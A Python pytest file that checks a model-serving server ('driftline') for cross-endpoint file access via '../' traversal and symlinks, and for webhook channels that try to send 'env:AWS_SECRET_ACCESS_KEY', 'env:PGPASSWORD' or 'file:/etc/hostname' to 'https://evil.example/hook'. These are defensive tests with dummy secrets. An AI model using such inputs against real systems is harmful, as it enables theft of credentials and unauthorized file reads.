"""What the files, variables and URLs of others are worth: nothing to whoever may not have them."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
import skops.io

from tests.driftline.access.conftest import TOKENS, Guarded
from tests.kit.data import ORDERS, fit, labelled, stream
from tests.kit.receiver import Receiver

CSV = {"content-type": "text/csv"}
ENVIRONMENT = {
    "AWS_SECRET_ACCESS_KEY": "c10uds3cret",
    "PGPASSWORD": "c10uds3cret",
    "DRIFTLINE_CHANNEL_PAGER": "whsec_" + "A" * 40,
}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
    folder = tmp_path_factory.mktemp("others")
    words = ("--only", "server")
    with Guarded(folder, TOKENS, words=words, environment=ENVIRONMENT, is_forked=True) as found:
        skops.io.dump(fit(labelled(stream(ORDERS, rows=200))), folder / "late.skops")
        found.apply(
            {"kind": "Model", "name": "late", "spec": {"path": str(folder / "late.skops")}},
            *(_later(found, name) for name in ("north", "south")),
        )
        yield found


def _later(server: Guarded, name: str) -> dict[str, object]:
    output = {"s3_output_path": str(server.folder / "store" / "outputs" / name)}
    config = {"output_config": output}
    return {
        "kind": "Endpoint",
        "name": name,
        "spec": {"model": "late", "async_inference_config": config},
    }


def test_a_token_of_one_endpoint_reads_no_file_of_another(server: Guarded) -> None:
    token = server.new_token("north", "--role", "invoke", "--endpoint", "north")
    outputs = server.folder / "store" / "outputs"
    for name in ("north", "south"):
        (outputs / name).mkdir(parents=True, exist_ok=True)
        (outputs / name / "in.csv").write_text("1.0,2.0\nsecret-of-" + name + ",2.0\n")
    (outputs / "in.csv").write_text("1.0,2.0\n")
    (outputs / "north" / "link.csv").symlink_to(outputs / "south" / "in.csv")

    def ask(place: object) -> tuple[int, str]:
        headers = {**CSV, "x-amzn-sagemaker-inputlocation": str(place)}
        path = "/endpoints/north/async-invocations"
        answer = server.ask("POST", path, token, headers=headers)
        return answer.status_code, answer.text

    climbing = f"{outputs}/north/../south/in.csv"
    refused = ("south/in.csv", "in.csv", "north/link.csv")
    for place in (*(outputs / one for one in refused), climbing):
        status, said = ask(place)
        assert (status, "in none of the data folders" in said) == (400, True), said
    assert ask(outputs / "north" / "in.csv")[0] == 202


@pytest.mark.parametrize(
    ("field", "reference"),
    [
        ("secret", "env:AWS_SECRET_ACCESS_KEY"),
        ("url", "env:AWS_SECRET_ACCESS_KEY"),
        ("routing_key", "env:AWS_SECRET_ACCESS_KEY"),
        ("routing_key", "env:PGPASSWORD"),
        ("routing_key", "env:DRIFTLINE_AUTH__TOKEN"),
        ("routing_key", "env:driftline_channel_pager"),
        ("routing_key", "env:DRIFTLINE_CHANNEL_"),
        ("secret", "file:/etc/hostname"),
        ("url", "file:/etc/hostname"),
    ],
)
def test_a_channel_sends_no_variable_that_was_not_made_for_channels(
    server: Guarded, field: str, reference: str
) -> None:
    kind = "pagerduty" if field == "routing_key" else "webhook"
    spec = {"type": kind, "url": "https://evil.example/hook", field: reference}
    resource = {"kind": "Channel", "name": "evil", "spec": spec}

    answer = server.ask("POST", "/api/v1/apply", json={"resources": [resource]})

    assert answer.status_code == 400
    assert "c10uds3cret" not in answer.text


def test_a_secret_in_a_variable_of_channels_signs(server: Guarded, receiver: Receiver) -> None:
    server.apply(receiver.channel("byname", secret="env:DRIFTLINE_CHANNEL_PAGER"))

    tried = server.ask("POST", "/api/v1/channels/byname/test").json()

    assert not tried["is_taken"]  # The receiver knows another secret.
    assert receiver.attempts[0].headers["webhook-signature"]


def test_a_url_is_shown_to_nobody_and_lies_nowhere_in_the_clear(server: Guarded) -> None:
    viewer = server.new_token("watcher", "--role", "viewer")
    with Receiver(lambda message: 500) as broken:
        hook = broken.channel("chat", url=f"{broken.url}/t0kenpath?key=t0kenquery")
        server.apply(hook)
        server.apply(hook)
        server.ask("POST", "/api/v1/channels/chat/test")
        assert broken.attempts[0].path == "/hook/t0kenpath?key=t0kenquery"

    for path in ("channels", "channels/chat", "channels/chat/log", "deliveries"):
        answer = server.ask("GET", f"/api/v1/{path}", viewer)
        assert (answer.status_code, "t0ken" in answer.text) == (200, False)
    shown = server.ask("GET", "/api/v1/channels/chat", viewer).json()["spec"]["url"]
    assert shown.endswith("/***"), "not even a digest that guesses could be tried against"
    body = {"resources": [broken.channel("chat", url=shown)]}
    assert server.ask("POST", "/api/v1/apply", json=body).status_code == 400
    assert "t0ken" not in server.ask("GET", "/api/v1/audit").text
    assert "t0ken" not in server.done("get", "channel", "chat")
    assert "t0ken" not in server.log
    for file in (server.folder / "store").rglob("*"):
        assert not file.is_file() or b"t0ken" not in file.read_bytes(), file
